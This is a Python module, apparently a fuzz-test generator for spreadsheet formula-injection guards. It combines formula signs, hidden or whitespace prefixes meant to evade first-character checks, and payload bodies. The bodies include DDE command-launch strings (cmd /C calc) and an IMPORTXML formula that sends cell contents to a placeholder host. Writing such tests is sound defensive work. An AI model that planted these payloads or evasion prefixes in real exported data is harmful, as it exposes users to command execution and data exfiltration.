"""Cells that spreadsheets run."""

from random import Random

SIGNS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "|", "%"]
# What stands before the sign where a guard looks at the first character only.
BEFORE = [
    "", " ", "  ", "\u3000", "\u00a0", "\t", "\n", "\r\n", "\u200b", "\ufeff", "\u2060", "'", "''",
    '"', '"=', "\t\n ", "\u200b\u200e",
]  # fmt: skip
BODIES = [
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x.example","y")', "SUM(1,2)", "A1*2",
    'IMPORTXML("http://x.example?"&A1)', "DDE(\"cmd\";\"/C calc\";\"!A0\")", "2+5+cmd|'/C calc'!A",
    "", "-1", "1", "=1", "'1", 'T("a,b")', 'T("a;b")&"\n"', "株式会社", "ＳＵＭ（１）", "(1)", "1e5",
]  # fmt: skip
ALWAYS = ["\t=1+1", "\r=1+1", "=", "-", "'=1+1", "''=1+1", "'", "''", "=1+1\n=2", "a\n=1+1", "\t"]


def risky(random: Random, many: int) -> list[str]:
    """`many` different cells, each sign and each thing before it among them."""
    first = [f"{before}={BODIES[n % len(BODIES)]}" for n, before in enumerate(BEFORE)]
    first += [f"{sign}{BODIES[n]}" for n, sign in enumerate(SIGNS)]
    found = dict.fromkeys([*ALWAYS, *first])
    while len(found) < many:
        cell = random.choice(BEFORE) + random.choice(SIGNS) + random.choice(BODIES)
        found.setdefault(cell)
    return list(found)[:many]
